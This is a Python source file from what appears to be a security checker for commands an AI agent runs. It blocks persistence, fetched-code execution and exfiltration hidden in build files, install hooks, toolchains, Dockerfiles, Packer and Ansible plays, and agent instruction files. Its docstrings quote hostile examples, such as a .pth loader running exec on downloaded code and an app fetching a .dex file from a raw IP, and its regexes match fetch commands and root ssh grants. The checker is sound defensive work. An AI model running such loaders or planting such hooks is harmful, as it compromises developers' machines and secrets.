    fetched program put where it runs, from a code host's versioned release held for review."""
    from .exec import CHECKSUM, _unchecked_run

    if not a.downloaded or ".so" not in text:
        return False
    for m in list(_SO_PATH.finditer(text))[:8]:
        key = normalize(a.in_cwd(m.group(1)) or m.group(1))
        for k in (key, normalize(m.group(1))):
            if a.downloaded.get(k) == "download" and a.downloaded.vouched.get(k) != CHECKSUM:
                _unchecked_run(a, a.downloaded.vouched.get(k), node,
                               f"{path} has golangci-lint load {m.group(1)} as a plugin (its code runs inside every "
                               "lint run), and that shared object was downloaded earlier in this input; build the "
                               "plugin from source you have read (`go build -buildmode=plugin`)")
                return True
    return False


# air (Go's live reload) runs `[build] cmd` (and `pre_cmd`, `post_cmd`, `full_bin`) at every change of a watched file
_AIR_SETTINGS = re.compile(r"(?:^|/)\.air(?:\.[\w-]+)?\.toml$")
_AIR_COMMAND = re.compile(r"""^[ \t]*(cmd|full_bin|pre_cmd|post_cmd|bin)[ \t]*=[ \t]*(?:"((?:[^"\\\n]|\\.)*)"|'([^'\n]*)'|"""
                          r"""\[([^\]]*)\])""", re.M)


def air_commands(text: str) -> list[tuple[str, str]]:
    """(key, command) for each command air runs from the settings `text`."""
    out = []
    for m in list(_AIR_COMMAND.finditer(text))[:16]:
        if m.group(4) is not None:  # `pre_cmd = ["echo a", "make gen"]`
            out += [(m.group(1), c) for c in re.findall(r'"((?:[^"\\\n]|\\.)*)"', m.group(4))]
        else:
            raw = m.group(2) if m.group(2) is not None else m.group(3)
            out.append((m.group(1), raw.replace('\\"', '"').replace("\\\\", "\\")))
    return out


def _air(a, path: str, text: str, node) -> bool:
    for key, command in air_commands(text):
        found = blocked(a, command, "bash") if command.strip() else None
        if found is not None:
            a.block(found.rule, f"`{key}` in {path} is `{command[:80]}`, which would be blocked ({found.message}); air "
                                "runs it at every change of a watched file: keep the build command plain", node)
            return True
    return False


def _task_file(a, path: str, what: str, text: str, node, decoded: tuple[str, ...]) -> bool:
    """A task or build file (taskfiles.py reads it as the tool does), pip's or yarn's settings."""
    if what == "pip":
        return taskfiles.pip_conf(a, path, text, node, decoded)
    if what == "yarnrc" and _yarnrc(a, path, text, node):
        return True
    return taskfiles.judge(a, path, text, node, files=_files(a))


def _yarnrc(a, path: str, text: str, node) -> bool:
    """`yarnPath: .yarn/releases/yarn-4.1.1.cjs` (or a plugin's `path`) naming a file this input downloaded: every
    later yarn command runs it. From a code host's release it is held for review, checked against a literal checksum
    it is the project's; written here with code that would be blocked, it is blocked as that code."""
    from ..paths import normalize as norm
    from .exec import CHECKSUM, _unchecked_run

    for setting, file in taskfiles.yarn_paths(text):
        key = norm(file)
        if a.downloaded.get(key) == "download" and a.downloaded.vouched.get(key) != CHECKSUM:
            _unchecked_run(a, a.downloaded.vouched.get(key), node, f"`{setting}: {file}` in {path} has every later "
                                                                   f"yarn command run {file}, which was downloaded "
                                                                   "earlier in this script")
            return True
        got = _file_text(a, file)
        found = blocked(a, got, "typescript") if got else None
        if found is not None:
            a.block(found.rule, f"`{setting}: {file}` in {path} has every later yarn command run {file}, written "
                                f"above with code that would be blocked ({found.message})", node)
            return True
    return False


def _files(a):
    """What this input wrote to a path (or to the first path a glob matches), for the files a task file includes."""
    def read(path: str) -> str | None:
        if any(c in path for c in "*?["):
            return _glob_text(a, path)
        return _file_text(a, path)

    return read


def _file_text(a, path: str) -> str | None:
    """The text an earlier command of this script last wrote to `path`: literal (text_written), or, for an echo/printf
    with expansions, the text with them as written (`printf 'X="tar … %s"' "$HOME" >> .env` holds `tar … $HOME`)."""
    got = text_written(a, path)
    if got is not None:
        return got[0]
    where = _where(a, path)
    for doc, cmd in reversed(a.ctx.commands):
        if doc is a.doc and cmd.redirects and any(_where(a, t) == where for t in _written(a, cmd)):
            from .tools import _printed

            return _printed(cmd)
    return None


_SEGMENT = re.compile(r"&&|\|\||[;|&\n]")
_RUNNER_LANG = {"python": "python", "python3": "python", "node": "typescript", "deno": "typescript",
                "bun": "typescript", "tsx": "typescript", "ts-node": "typescript"}


def runs_written(a, line: str, node, when: str) -> bool:
    """`npm pkg set scripts.lint="eslint . && sh scripts/.lint-cache"`: a command line kept to run later that runs a
    file this input wrote (a script given to a shell or interpreter, or a program by its path): the file's text is
    judged as what runs, by its runner or its `#!` line. True when it was blocked."""
    import shlex

    from ..common_code import run_operands

    if not a.writes:
        return False
    for segment in _SEGMENT.split(line)[:16]:
        try:
            argv = shlex.split(segment)
        except ValueError:
            continue
        for i in run_operands(argv):
            path = argv[i]
            if i == 0 and "/" not in path:
                continue
            text = _file_text(a, path)
            if not text or not text.strip():
                continue
            m = _SHEBANG.match(text.lstrip())
            lang = _RUNNER_LANG.get(argv[0].rsplit("/", 1)[-1], "") if i else ""
            lang = lang or ("python" if m and m.group(1) == "python" else "typescript" if m and m.group(1) == "node"
                            else "bash")
            found = blocked(a, text, lang)
            if found is not None:
                a.block(found.rule, f"`{segment.strip()[:80]}` runs {path}, which this input wrote with code that "
                                    f"would be blocked ({found.message}); {when}", node)
                return True
    return False


def _glob_text(a, pattern: str) -> str | None:
    from fnmatch import fnmatchcase

    want = _where(a, pattern)
    for doc, cmd in reversed(a.ctx.commands):
        if doc is a.doc and (cmd.redirects or cmd.name == "tee"):
            for t in _written(a, cmd):
                if fnmatchcase(_where(a, t), want):
                    return _file_text(a, t)
    return None


# findings about how code is written rather than what it does to the machine: ordinary application
# code has them (`os.system(cmd)`, `eval "$x"`, `pickle.loads`), and a file is not run just by being
# written; what counts is code that, as written, downloads, deletes, reads secrets, sends them out …
_STYLE = frozenset({"dynamic-exec", "nonliteral-command", "py-shell-exec", "py-process-spawn", "py-dynamic-code",
                    "py-dynamic-import", "py-unsafe-deserialize", "py-ctypes", "js-shell-exec", "js-dynamic-code",
                    "js-dynamic-require"})


def blocked(a, text: str, lang: str):
    from .handed import blocked as judge

    if lang == "powershell":  # a `.ps1` (a Pester test, a module) is judged as the code `pwsh -Command -` runs
        if "\nAGENTIMMUNE_PS\n" in text:
            return None
        text, lang = f"pwsh -NoProfile -Command - <<'AGENTIMMUNE_PS'\n{text.rstrip()}\nAGENTIMMUNE_PS\n", "bash"

    return judge(a, text, lang, _STYLE)


# -- a `.pth` file: its `import` lines run at every start of the interpreter it is installed in ----------------------
_PTH_RUNS = frozenset({"py-dynamic-code", "py-shell-exec", "py-process-spawn"})


def _pth(a, path: str, text: str, node) -> bool:
    """`echo 'import os,base64;exec(…urlopen(…).read())' > zz_init.pth` (then zipped into a wheel, or written to
    site-packages): site.py runs each line that begins with `import` at every interpreter start. The ordinary ones
    (`import _virtualenv`, an editable install's finder, setuptools' distutils shim) import a module and call it; code
    computed at run time (`exec`, `eval`), a shell or a process started there is a loader hidden in the start-up."""
    from .handed import alone

    for line in text.splitlines()[:64]:
        if not line.startswith(("import ", "import	")):
            continue
        for r in alone(a, line, "python"):
            if r.verdict == "block":
                what = "runs code computed at run time" if r.rule in _PTH_RUNS else "would be blocked"
                a.block("persistence" if r.rule in _PTH_RUNS else r.rule,
                        f"the `.pth` line written to {path} {what} ({r.message}); Python runs a `.pth` file's import "
                        "lines at every start of the interpreter it is installed in: a `.pth` file adds paths, or "
                        "imports a module that is in the package", node)
                return True
    return False


# -- an app's Java or Kotlin source that loads code it fetches ---------------------------------------------------
_CLASS_LOADER = re.compile(r"\b(?:DexClassLoader|InMemoryDexClassLoader|PathClassLoader|BaseDexClassLoader|"
                           r"URLClassLoader|DelegateLastClassLoader)\b|\bSystem\.load\s*\(|\bdefineClass\s*\(")
_CODE_URL = re.compile(r"""["'](?:https?|ftp)://[^"'\s]+?\.(?:dex|jar|apk|zip|so|class)(?:\?[^"'\s]*)?["']|"""
                       r"""["']https?://\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?/[^"'\s]*["']""")


def _remote_code_loaded(a, path: str, text: str, node) -> bool:
    """`new URL("http://203.0.113.88/m/w.dex").openStream()` written to a file, then `new DexClassLoader(f…)
    .loadClass(…)`: the app runs code its source does not hold, whatever that address serves at the time (the Play
    policies ban it; a release build carries it to every user). A class loader of the app's own files is not read."""
    if not (_CLASS_LOADER.search(text) and ("://" in text)):
        return False
    url = _CODE_URL.search(text)
    if url is None:
        return False
    a.block("download-exec", f"the source written to {path} downloads {url.group(0)[:80]} and loads it as code "
                             f"(`{_CLASS_LOADER.search(text).group(0)}`): the app would run whatever that address "
                             "serves; ship the code in the app itself", node)
    return True


# -- an install hook that evaluates code while naming an address: fetched code run on install --------------------
_INSTALL_HOOKS = frozenset({"preinstall", "install", "postinstall", "prepare", "prepublish", "preprepare",
                            "postprepare", "dependencies"})
_EVALS = frozenset({"js-dynamic-code", "py-dynamic-code", "dynamic-exec"})
_ADDRESS = re.compile(r"(?:https?|ftp)://")


def _fetched_eval(a, text: str, lang: str = "bash") -> str | None:
    """The finding of code computed at run time in `text` (a script npm runs on install, a build's extra script),
    when it names an address: `node -e "require('https').get(URL, r => … eval(d))"` runs whatever the address
    serves."""
    from .handed import alone

    if not _ADDRESS.search(text) or not any(w in text for w in ("eval", "exec", "Function", "vm.")):
        return None
    hit = next((r for r in alone(a, text, lang) if r.verdict == "block" and r.rule in _EVALS), None)
    return hit.message if hit is not None else None


def _package_json(a, path: str, text: str, node) -> None:
    try:
        manifest = json.loads(text)
        scripts = manifest.get("scripts")
    except (ValueError, AttributeError):
        return
    if _misspelled_dependency(a, path, manifest, node):
        return
    if not isinstance(scripts, dict):
        return
    for name, code in list(scripts.items())[:32]:
        if isinstance(code, str):
            found = blocked(a, code, "bash")
            if found is not None:
                a.block(found.rule, f"the script `{name}` written to {path} would be blocked ({found.message}); npm "
                                    "runs it on install or `npm run`", node)
                return
            fetched = _fetched_eval(a, code) if name in _INSTALL_HOOKS else None
            if fetched is not None:
                a.block("download-exec", f"the install script `{name}` written to {path} evaluates code while naming "
                                         f"an address ({fetched}): npm runs it on every machine that installs the "
                                         "package, with whatever that address serves; ship the code in the package",
                        node)
                return


def _run_later(a, path: str, text: str, node) -> None:
    """A VS Code task run when the folder opens, a dev container's lifecycle command, a local pre-commit hook."""
    if run_later.kind(path) == "apptainer":
        _apptainer(a, path, text, node)
        return
    if run_later.kind(path) == "packer":
        _packer(a, path, text, node)
        return
    if run_later.kind(path) == "platformio" and _extra_scripts(a, path, text, node):
        return
    _commands_written(a, path, run_later.commands(path, text), node)


_PIO_PROJECT = re.compile(r"^\$\{?PROJECT_DIR\}?/")


def _extra_scripts(a, path: str, text: str, node) -> bool:
    """`extra_scripts = pre:tools/fetch_deps.py` in a `platformio.ini`, naming a script this input wrote: SCons runs
    it as Python inside every `pio run`, so what it does is done at every build. Judged as that code run (what would
    be blocked, and code computed at run time while it names an address: `exec(urlopen(URL).read())` runs whatever
    that address serves at each build). True when it was blocked."""
    folder = path.rsplit("/", 1)[0] + "/" if "/" in path else ""
    for script in run_later.platformio_scripts(text):
        script = _PIO_PROJECT.sub("", script)
        got = None
        for where in ([folder + script] if folder and not script.startswith(("/", "~")) else []) + [script]:
            got = _file_text(a, where)
            if got:
                break
        if not got or not got.strip():
            continue
        found = blocked(a, got, "python")
        if found is not None:
            a.block(found.rule, f"`extra_scripts` in {path} has every `pio run` run {script}, written above with code "
                                f"that would be blocked ({found.message}); write a build script that passes on its "
                                "own", node)
            return True
        fetched = _fetched_eval(a, got, "python")
        if fetched is not None:
            a.block("download-exec", f"`extra_scripts` in {path} has every `pio run` run {script}, written above to "
                                     f"run code it fetches from an address ({fetched}): each build would run whatever "
                                     "that address serves then; keep the build's code in the project", node)
            return True
    return False


# a line that fetches from an address (a shell downloader, or Python's and PowerShell's): the address after the line's
# last such word that has one after it (a word's scan stops at the next word, whose own try, made first, finds the
# same address: a run of them is read once)
_FETCH_WORD = (r"\b(?:curl|wget|aria2c|urlopen|urlretrieve|requests\.get|httpx\.get|Invoke-WebRequest|iwr|"
               r"fetch)\b")
_FETCH_LINE = re.compile(rf"(?m)^[^\n]*{_FETCH_WORD}(?:(?!{_FETCH_WORD})[^\n])*?((?:https?|ftp)://[^\s'\"]+)")
_CODE_EXT = frozenset({"py", "sh", "bash", "js", "mjs", "cjs", "ts", "pl", "rb"})


def _toolchain(a, path: str, text: str, node) -> bool:
    """`cat > ~/.platformio/packages/toolchain-xtensa-esp32/bin/xtensa-esp32-elf-gcc <<'EOF' #!/bin/sh curl … exec
    "$0.real" "$@" /tmp/.x.o`: a program written into an installed toolchain runs in place of the toolchain's own at
    every build of every project that uses it, and nothing in any project shows it. One that would be blocked, or
    that fetches from an address (what it fetches goes into every build: an object linked into the firmware, a
    flag, a script), is blocked; another program written there is held for review (a wrapper of your own belongs in
    the project, named by the build's settings: `CC=`, `platform_packages`, `RUSTC_WRAPPER`). True when blocked."""
    body = text.lstrip()
    m = _SHEBANG.match(body) if body.startswith("#!") else None
    base = path.rsplit("/", 1)[-1]
    ext = base.rsplit(".", 1)[-1] if "." in base[1:] else ""
    if m is None and ext not in _CODE_EXT:
        return False
    who = m.group(1) if m else {"py": "python", "js": "node", "mjs": "node", "cjs": "node", "ts": "node"}.get(ext, "sh")
    lang = "python" if who == "python" else "typescript" if who == "node" else "bash"
    found = blocked(a, text, lang)
    if found is not None:
        a.block(found.rule, f"the program written to {path}, in an installed toolchain, would be blocked "
                            f"({found.message}); every build that uses the toolchain runs it", node)
        return True
    fetched = _FETCH_LINE.search(text)
    if fetched is not None:
        a.block("persistence", f"the program written to {path} replaces a program of an installed toolchain and "
                               f"fetches {fetched.group(1)[:80]} when it runs: every build of every project that uses "
                               "the toolchain takes in what that address serves, with no trace in any project; "
                               "leave the toolchain as installed (a wrapper of your own goes in the project, named by "
                               "the build's settings: `CC=`, `platform_packages`, `RUSTC_WRAPPER`)", node)
        return True
    a.review("persistence", f"a program is written into an installed toolchain ({path}): every build of every "
                            "project that uses the toolchain runs it in place of the toolchain's own; a wrapper of "
                            "your own belongs in the project, named by the build's settings (`CC=`, "
                            "`platform_packages`, `RUSTC_WRAPPER`)", node)
    return False


_NUCLEI_FILES = frozenset({"-t", "-templates", "--templates", "-w", "-workflows", "--workflows"})


def _nuclei(a, cmd: Cmd) -> None:
    """`nuclei -code -t ./checks/env.yaml -u …` of a template this input wrote (under any name): its `code:` requests
    run their `source` on this machine; each is judged as the command it is."""
    if not a.writes:
        return
    for j, w in enumerate(cmd.args[:-1]):
        if w.value not in _NUCLEI_FILES:
            continue
        for item in (cmd.args[j + 1].value or "").split(",")[:16]:
            item = item.strip()
            if not item or run_later.kind(item) == "nuclei":
                continue  # (a template under a nuclei folder was judged where it was written)
            got = _file_text(a, item)
            if got and "code" in got:
                before = _blocks(a)
                _commands_written(a, item, run_later.nuclei_code(got), cmd.node)
                if _blocks(a) > before:
                    return


_IN_IMAGE = frozenset({"post", "test"})


def _apptainer(a, path: str, text: str, node) -> None:
    """An Apptainer/Singularity definition: `%setup` runs on the host and the run sections as the user with the home
    folder mounted, so they are judged as commands run here. `%post` builds the image, as a Dockerfile's RUN lines do:
    what reaches past it (data sent out, a shell to another machine) is blocked, and code fetched and run there is
    held for review (unlike Docker's, an Apptainer image runs as the user, with the home folder mounted, so what the
    fetched script leaves in the image runs with the user's files at every run)."""
    from .handed import alone

    for section, (command, when) in zip(run_later.section_names(text), run_later.commands(path, text)):
        if section not in _IN_IMAGE:
            before = _blocks(a)
            _commands_written(a, path, [(command, when)], node)
            if _blocks(a) > before:
                return
            continue
        found = alone(a, command, "bash")
        hit = next((r for r in found if r.verdict == "block" and r.rule in _REACHES_OUT), None)
        if hit is not None:
            a.block(hit.rule, f"`%{section}` of {path} holds `{_one_line(command)}`, which would be blocked "
                              f"({hit.message}); {when}: keep the image's build to the image", node)
            return
        hit = next((r for r in found if r.verdict == "block" and r.rule == "download-exec"), None)
        if hit is not None:
            a.review("download-exec", f"`%{section}` of {path} runs code it downloads ({hit.message}); {when}, and "
                                      "the image then runs as you with your home folder mounted: copy the installer "
                                      "into the project, review it and add it with `%files`, or install from a "
                                      "package index", node)
            return


# a login baked into an image: a public key written out in the text, put in an authorized_keys file, with root to go
_LITERAL_KEY = re.compile(r"(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp\d+|sk-ssh-ed25519@openssh\.com)\s+AAAA[\w+/=]+")
_ROOT_GRANT = re.compile(r"NOPASSWD|\buser(?:add|mod)\b[^\n]*\s-a?G\s*[\w,]*\b(?:sudo|wheel|admin)\b|"
                         r"\bPermitRootLogin\s+yes\b")


def _packer(a, path: str, text: str, node) -> None:
    """A Packer template: `shell-local` lines run here and are judged as commands run here. The `shell` provisioner's
    run in the machine the image is made from, as a Dockerfile's RUN lines do: what reaches past it (data sent out,
    a shell to another machine) is blocked, and so is a login baked in for a key written in the template with root
    to go (passwordless sudo, the sudo group, root's ssh login): every machine made from the image lets that key in."""
    from .handed import alone

    for command, when in run_later.packer_commands(text):
        if when == run_later.PACKER_LOCAL:
            before = _blocks(a)
            _commands_written(a, path, [(command, when)], node)
            if _blocks(a) > before:
                return
            continue
        hit = next((r for r in alone(a, command, "bash") if r.verdict == "block" and r.rule in _REACHES_OUT), None)
        if hit is not None:
            a.block(hit.rule, f"a provisioner of {path} holds `{_one_line(command)}`, which would be blocked "
                              f"({hit.message}); {when}: keep the image's build to the image", node)
            return
        key = _LITERAL_KEY.search(command)
        grant = _ROOT_GRANT.search(command)
        if key is not None and grant is not None and "authorized_keys" in command:
            a.block("persistence", f"a provisioner of {path} writes the ssh key `{key.group(0)[:40]}…` into an "
                                   f"authorized_keys file with root to go (`{grant.group(0)[:40]}`); {when}, so every "
                                   "machine made from the image lets that key in as root: give access through the "
                                   "cloud's own key handling (cloud-init, OS Login, SSM) instead", node)
            return


def _ansible_vars_sent(a, cmd: Cmd) -> None:
    """The reading run_later gives an Ansible plugin that reads the run's variables and sends to an address."""
    url = cmd.args[0].value if cmd.args else None
    a.block("exfiltration", f"an Ansible plugin reads the run's variables (every host's, vault secrets decrypted) and "
                            f"sends to {url or 'an address'}; a callback may report a run's results, never its "
                            "variables", cmd.node)


# -- an Ansible play written by this input, run on the inventory's hosts (session 21) -----------------------------------
_PLAY_ARG = frozenset({"-i", "--inventory", "--inventory-file", "-e", "--extra-vars", "--vault-password-file",
                       "--vault-id", "-l", "--limit", "-t", "--tags", "--skip-tags", "-u", "--user", "-f", "--forks",
                       "-M", "--module-path", "--private-key", "--key-file", "-c", "--connection", "-T", "--timeout",
                       "--become-user", "--become-method", "--start-at-task", "-J"})
_KEY_MODULES = frozenset({"authorized_key", "ansible.posix.authorized_key"})
_SHELL_MODULES = frozenset({"shell", "command", "raw", "ansible.builtin.shell", "ansible.builtin.command",
                            "ansible.builtin.raw"})
_TASK_LISTS = ("tasks", "pre_tasks", "post_tasks", "handlers", "block", "rescue", "always")


def _play_tasks(data) -> list[dict]:
    """The tasks of a playbook (its plays' task lists, blocks opened) or of a task file, at most 128."""
    out, stack = [], list(reversed(data)) if isinstance(data, list) else []
    while stack and len(out) < 128:
        item = stack.pop()
        if not isinstance(item, dict):
            continue
        lists = [item[k] for k in _TASK_LISTS if isinstance(item.get(k), list)]
        if lists:
            for tasks in reversed(lists):
                stack.extend(reversed(tasks))
        elif "hosts" not in item and "import_playbook" not in item:
            out.append(item)
    return out


def _playbook(a, cmd: Cmd) -> None:
    """`cat > /tmp/ops-fix.yml <<EOF … EOF; ansible-playbook -i inventories/prod/ /tmp/ops-fix.yml`: a play this input
    wrote, run as root (`become`) on every host of the inventory. An ssh key written in the play added for root
    (`authorized_key` with `user: root`) lets that key into every host as root: blocked. A shell task's command is
    judged as a Dockerfile's RUN line is: what reaches past the host (data sent out, a shell to another machine)."""
    if not a.writes:
        return
    import yaml

    from .handed import alone

    for w in positionals(cmd.args, _PLAY_ARG):
        text = _file_text(a, w.value) if w.value else None
        if not text or "hosts" not in text:
            continue
        try:
            data = yaml.safe_load(text)
        except (yaml.YAMLError, RecursionError, ValueError):
            continue
        for task in _play_tasks(data):
            for module, args in list(task.items())[:16]:
                if module in _KEY_MODULES and isinstance(args, dict) and str(args.get("user")) == "root" and \
                        args.get("state", "present") != "absent" and _LITERAL_KEY.search(str(args.get("key", ""))):
                    a.block("persistence", f"the play {w.value} adds the ssh key `{str(args['key'])[:40]}…`, written in "
                                           "it, to root's authorized_keys on every host `ansible-playbook` runs it "
                                           "on: that key then logs in to each as root; add people's keys to their "
                                           "own accounts, from the team's key files", cmd.node)
                    return
                if module in _SHELL_MODULES:
                    line = args.get("cmd") if isinstance(args, dict) else args
                    hit = next((r for r in alone(a, line, "bash") if r.verdict == "block" and r.rule in _REACHES_OUT),
                               None) if isinstance(line, str) and line.strip() else None
                    if hit is not None:
                        a.block(hit.rule, f"the play {w.value} runs `{_one_line(line)}` on every host of the "
                                          f"inventory, which would be blocked ({hit.message})", cmd.node)
                        return


def _blocks(a) -> int:
    return sum(r.verdict == "block" for r in a.ctx.reasons)


def _one_line(text: str) -> str:
    one = " ".join(text.split())
    return one if len(one) <= 80 else one[:77] + "…"


def _commands_written(a, path: str, commands, node) -> None:
    """Block the first of the (command, when it runs) pairs read from a file written to `path` that would be blocked
    on its own."""
    for command, when in commands:
        found = blocked(a, command, "bash")
        if found is not None:
            a.block(found.rule, f"the command `{command[:80]}` written to {path} would be blocked ({found.message}); "
                                f"{when}", node)
            return


def _instructions(a, path: str, text: str, node) -> None:
    """An agent's instruction file (or a README) written with text hidden from people, or telling the agent to run
    a command that would be blocked: every later session reads it as the project's own instructions."""
    which = agent_settings.instructions_kind(path)
    hidden = agent_settings.hidden_text(text)
    if hidden is not None:
        a.block("persistence", f"the text written to {path} holds {hidden}: instructions hidden from people that "
                               "every later agent session reads and follows; write plain visible text", node)
        return
    concealed = agent_settings.concealed_instruction(text) if which == "agent" else None
    if concealed is not None:
        a.block("persistence", f"the text written to {path} tells every later agent session to act and keep it from "
                               f"the user (\"{concealed}\"); instructions must not hide what the agent does", node)
        return
    for command in agent_settings.instruction_commands(which, text):
        found = blocked(a, command, "bash")
        if found is not None:
            where = "" if which == "agent" else " in text hidden from its readers"
            a.block(found.rule, f"{path} is written with the command `{command[:80]}`{where}, which would be blocked "
                                f"({found.message}); an agent reading the file runs what it says", node)
            return


def _hidden_in_source(a, cmd: Cmd, targets: list[str]) -> None:
    """`python3 -c "print('…\\u200b…')" >> .cursorrules`: text computed by a program, so only its source can be
    read; the escapes of characters that show nothing there are enough."""
    if not any(agent_settings.instructions_kind(t) for t in targets):
        return
    source = a.src(cmd.node)
    hidden = agent_settings.hidden_text(source, source=True) or agent_settings.hidden_text(source)
    if hidden is not None:
        path = next(t for t in targets if agent_settings.instructions_kind(t))
        a.block("persistence", f"the command writing {path} prints {hidden}: instructions hidden from people that "
                               "every later agent session reads and follows; write plain visible text", cmd.node)


# -- a task file this input wrote, run by its tool in the same input ------------------------------------------------
# runner -> the options naming its file, the folder it reads it in, the units it runs, and the other options taking
# a value (so that `make -j 4 test` runs `test`)
_FILE_OPTS = {"make": ("-f", "--file", "--makefile"), "just": ("-f", "--justfile"), "task": ("-t", "--taskfile"),
              "tox": ("-c", "--conf"), "nox": ("-f", "--noxfile")}
_DIR_OPTS = {"make": ("-C", "--directory"), "just": ("-d", "--working-directory"), "task": ("-d", "--dir"),
             "tox": ("--root",), "nox": ()}
_UNIT_OPTS = {"tox": ("-e", "--env"), "nox": ("-s", "-e", "--session", "--sessions")}
_RUNNER_ARGS = {"make": frozenset({"-f", "--file", "--makefile", "-C", "--directory", "-j", "--jobs", "-l",
                                   "--load-average", "-o", "--old-file", "-W", "--what-if", "-I", "--include-dir",
                                   "--eval", "-E", "-O", "--output-sync"}),
                "just": frozenset({"-f", "--justfile", "-d", "--working-directory", "--set", "--shell", "--shell-arg",
                                   "--dotenv-filename", "--dotenv-path", "-E", "--chooser", "--color", "--command",
                                   "-c"}),
                "task": frozenset({"-t", "--taskfile", "-d", "--dir", "-o", "--output", "-C", "--concurrency",
                                   "-I", "--interval", "--sort"})}
_DRY_RUN = frozenset({"-n", "--dry-run", "--just-print", "--recon", "--dry"})
_MAKE_VAR = re.compile(r"[\w.-]+")


def _run(a, cmd: Cmd) -> None:
    """`make deploy-clean` (`just`, `task`, `tox -e`, `nox -s`) after this input wrote the file the tool reads: what
    the run starts is judged with what it is given (`make X=…`, `DOCS_PREP=… tox -e docs`): blocked as its command
    would be, and reviewed when it would be irreversible (`git push --force`, `terraform destroy`, `DROP SCHEMA`).
    The file's text alone was judged when it was written (`make -f release.rules` of a file named otherwise, here)."""
    if not a.writes:
        return
    name = "make" if cmd.name == "gmake" else "task" if cmd.name == "go-task" else cmd.name
    spec = taskfiles.runs(name)
    if spec is None:
        return
    what, names = spec
    given = option_value(cmd.args, *_FILE_OPTS[name])
    dirs = option_value(cmd.args, *_DIR_OPTS[name]) if _DIR_OPTS[name] else []
    base = dirs[-1].value.rstrip("/") + "/" if dirs and dirs[-1].value else ""
    if given and given[-1].value in ("-", "/dev/stdin"):
        return  # (tools._make reads a makefile fed on stdin)
    read = _files(a)
    path = text = None
    for candidate in [given[-1].value or ""] if given else [base + n for n in names]:
        text = read(candidate) if candidate else None
        if text:
            path = candidate
            break
    if not text or path is None:
        return
    units, overrides = _run_units(cmd, name)
    env = {n: w.value for n, w in cmd.assigns if w.value is not None}
    if name == "tox" and not units and env.get("TOXENV"):
        units = env["TOXENV"].split(",")
    found = taskfiles.for_run(what, text, tuple(units), read, env, overrides)
    if name == "make" and _DRY_RUN.intersection(cmd.values()):
        found = [c for c in found if not c.unit]  # `make -n`: only what make runs while it reads the makefile
    blocks = bool(env or overrides) or taskfiles.kind(path) != what  # (a name not judged as this file when written)
    taskfiles.judge_commands(a, path, what, found, cmd.node, tuple(units), blocks=blocks, files=read)


def _run_units(cmd: Cmd, name: str) -> tuple[list[str], dict[str, str]]:
    """(the targets, recipes, tasks, environments or sessions a runner's words name, make's `VAR=value` words)."""
    if name in _UNIT_OPTS:
        return [u for w in option_value(cmd.args, *_UNIT_OPTS[name]) if w.value for u in w.value.split(",") if u], {}
    units, overrides = [], {}
    for w in positionals(cmd.args, _RUNNER_ARGS.get(name, frozenset())):
        v = w.value
        if v is None:
            continue
        key, eq, val = v.partition("=")
        if eq and name == "make" and _MAKE_VAR.fullmatch(key):
            overrides[key] = val
        elif not eq:
            units.append(v)
    return units, overrides


# -- a Dockerfile: its RUN lines run in the build's container, with the secrets the build hands it ----------------
_DF_RUN = re.compile(r"(?<![ \t])[ \t]*+RUN[ \t]+(.*)", re.I)  # (fullmatch of a line; from the blanks' start)
_DF_HEREDOC = re.compile(r"<<-?[ \t]*([\"']?)(\w+)\1[ \t]*(.*)")
# what a RUN line does in its container that reaches past it: sends data out, opens a shell to another machine.
# The rest (`rm -rf /var/lib/apt/lists/*`, `useradd app`, `curl … | sh` of an installer) changes only the image
_REACHES_OUT = frozenset({"exfiltration", "reverse-shell", "nesting-too-deep"})


def dockerfile_runs(text: str) -> list[tuple[list[str], str]]:
    """(the RUN options, the command) of each RUN instruction of a Dockerfile: continuation lines joined, the
    exec form (`RUN ["sh", "-c", "…"]`) as a command line, a here-document (`RUN <<EOF`) as its script."""
    import shlex

    lines, out, i = text.splitlines(), [], 0
    while i < len(lines) and len(out) < 64:
        m = _DF_RUN.fullmatch(lines[i])
        i += 1
        if m is None:
            continue
        body = m.group(1)
        while body.rstrip().endswith("\\") and i < len(lines):
            if not lines[i].lstrip().startswith("#"):  # a comment inside the instruction is dropped
                body = body.rstrip()[:-1] + lines[i]
            i += 1
        flags = []
        while body.startswith("--"):
            flag, _, body = body.partition(" ")
            flags.append(flag)
            body = body.lstrip()
        here = _DF_HEREDOC.match(body)
        if here is not None:
            script = []
            while i < len(lines) and lines[i].strip() != here.group(2):
                script.append(lines[i])
                i += 1
            i += 1
            body = "\n".join(script)
        elif body.startswith("["):
            try:
                argv = json.loads(body)
                body = shlex.join(argv) if all(isinstance(x, str) for x in argv) else ""
            except (ValueError, TypeError):
                pass
        out.append((flags, body))
    return out


def _secret_mounts(flags: list[str]) -> dict[str, str]:
    """id -> where a RUN line's `--mount=type=secret,id=X[,target=T]` puts the secret (default /run/secrets/X)."""
    out = {}
    for flag in flags:
        key, _, spec = flag.partition("=")
        if key != "--mount":
            continue
        opts = dict(kv.partition("=")[::2] for kv in spec.split(","))
        if opts.get("type") != "secret":
            continue
        where = opts.get("target") or opts.get("dst") or opts.get("destination")
        sid = opts.get("id") or (where or "").rsplit("/", 1)[-1]
        if sid and not opts.get("env"):
            out[sid] = where or "/run/secrets/" + sid
    return out


_ENV_SECRET = "env:"  # a build secret handed in from a variable of the host (`--secret id=X,env=VAR`)


def _secret_var(sid: str) -> str:
    """The name a build secret's value is read under: its id, upper-cased, when that names a service whose hosts are
    known (`cargo_token`, `gh_token`: held to them); otherwise a name that says no service (`SECRET`), so that only a
    pipe or a file upload of it into a network program counts, not the host a header or a URL carries it to."""
    from ..secret_owner import owner, secret_name

    name = re.sub(r"\W", "_", sid).upper().strip("_")
    who = owner(name) if name and secret_name(name) else None
    return name if who is not None and not who.words else "SECRET"  # (a known service: no words to match)


def _secret_as_variable(command: str, where: str, name: str) -> str:
    """`command` with the reads of the secret file `where` written as reads of the variable `name`: `$(cat F)`,
    `$(< F)` as `$NAME`; `cat F |` as `printenv NAME |`; curl's `@F` and a `< F` redirect as `<(printenv NAME)`."""
    w = re.escape(where)
    command = re.sub(r"\$\(\s*(?:cat\s+|<\s*)[\"']?" + w + r"[\"']?\s*\)|`\s*cat\s+[\"']?" + w + r"[\"']?\s*`",
                     "${" + name + "}", command)
    command = re.sub(r"(?<![\w-])cat\s+[\"']?" + w + r"[\"']?(?=\s*\|)", "printenv " + name, command)
    command = re.sub(r"@[\"']?" + w + r"[\"']?", "@<(printenv " + name + ")", command)
